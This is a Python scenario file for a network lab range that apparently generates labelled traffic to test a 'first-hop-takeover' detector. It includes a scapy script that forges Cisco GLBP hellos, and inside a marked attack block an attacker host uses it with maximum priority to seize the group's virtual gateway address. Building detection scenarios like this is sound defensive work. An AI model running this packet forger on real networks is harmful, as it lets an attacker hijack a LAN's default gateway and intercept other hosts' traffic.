"""A host becomes the gateway of a GLBP group."""

from lab.range import Range
from lab.scenario import Scenario

# No free program speaks GLBP; the fields are those of Cisco's hello as Wireshark names them.
SPEAKER = """
import struct, sys, time
mac, state, priority, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
owner = bytes.fromhex(mac.replace(":", ""))
hello = bytes([0, state, 0, priority, 0, 0]) + struct.pack(">IIHHBB", 3000, 10000, 600, 14400, 0, 0)
hello += bytes([1, 4]) + bytes([10, 20, 0, 254])
body = bytes([1, 0]) + struct.pack(">HH", 5, 0) + owner + bytes([1, len(hello) + 2]) + hello
while count:
    sendp(Ether(src=mac, dst="01:00:5e:00:00:66") / IP(dst="224.0.0.102", ttl=255)
          / UDP(sport=3222, dport=3222) / body)
    count -= 1
    time.sleep(float(sys.argv[5]))
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    first, second = net.inside("gateway1"), net.inside("gateway2")
    net.everyday()
    prologue = "from scapy.all import *\nconf.verb = 0\nconf.iface = 'eth0'\n" + SPEAKER
    first.start("/usr/bin/python3", "-c", prologue, first.mac, "32", "110", "-1", "3")
    second.start("/usr/bin/python3", "-c", prologue, second.mac, "16", "100", "-1", "3")
    net.quiet(12)
    with net.attack(
        "first-hop-takeover",
        by=attacker,
        victims=[first, "10.20.0.254"],
        frames="udp port 3222",
        responses="udp port 3222",
    ):
        net.scapy(attacker, SPEAKER, attacker.mac, "32", "255", "10", "1")
    net.quiet(3)


SCENARIO = Scenario(
    name="first-hop-takeover-glbp",
    about="A host says by GLBP that it is the active gateway of a group that two routers keep.",
    detectors=("first-hop-takeover",),
    run=run,
)
